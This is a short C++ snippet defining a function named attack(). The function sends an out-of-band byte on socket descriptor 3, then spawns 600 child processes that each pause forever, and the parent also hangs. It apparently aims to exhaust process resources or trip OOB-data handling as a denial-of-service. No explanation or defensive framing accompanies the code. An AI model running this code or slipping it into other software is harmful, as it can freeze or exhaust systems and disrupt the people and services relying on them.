#include <sys/socket.h>
#include <unistd.h>

void attack() {
    ::send(3, "x", 1, MSG_OOB);
    for (int children = 0; children < 600; ++children)
        if (::fork() == 0)
            for (;;) ::pause();
    for (;;) ::pause();
}
